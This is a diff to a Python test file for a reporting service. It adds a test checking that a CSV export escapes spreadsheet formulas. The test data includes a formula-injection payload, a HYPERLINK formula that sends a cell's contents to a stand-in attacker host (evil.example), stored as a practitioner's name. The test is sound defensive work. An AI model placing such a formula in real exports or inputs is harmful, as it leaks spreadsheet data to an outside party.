@@ -14,7 +14,9 @@ from typing import Any
 from dateutil.relativedelta import relativedelta
 
 from domain.states import CaseState, Role
-from models.db import read_session
+from models.case import get_case
+from models.db import read_session, session_scope
+from models.practitioner import Practitioner
 from service import reports
 from service.actions import open_case
 from service.actors import Actor
@@ -108,6 +110,21 @@ async def test_open_cases_cycle_times_overdue_and_outstanding(own_database: Mail
     assert f"<td>{CaseState.ASSOCIATION_CHECK.label}</td><td>KOT</td><td>1</td>" in text
     assert "Geen registraties die in deze 36 maanden aflopen" in text  # both lapsed (R4)
     assert "<td>Herregistratie (KP)</td><td>1</td><td>€ 84,00</td>" in text
+    assert "herregistratie report" not in text  # the office downloads, no command line
+    with session_scope() as session:  # a name that a spreadsheet would run as a formula
+        case = get_case(session=session, case_id=waiting.case_id)
+        case.due_on = TODAY - timedelta(days=2)
+        practitioner = session.get(Practitioner, case.practitioner_id)
+        assert practitioner is not None
+        practitioner.name = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+        session.add_all([case, practitioner])
+    with staff_session("association_staff") as staff:
+        download = staff.get("/rapportage/te-laat.csv")
+        assert staff.get("/rapportage/bestaat-niet.csv").status_code == 404
+        assert staff.get("/rapportage", params={"van": "9999-12"}).status_code == 200
+    assert download.headers["content-type"] == "text/csv; charset=utf-8"
+    assert download.text.startswith("\ufeffaanvraag;oefentherapeut;")
+    assert "'=HYPERLINK" in download.text and ";=HYPERLINK" not in download.text
 
 
 def test_the_report_page_needs_a_staff_login(offline_client: Any) -> None:
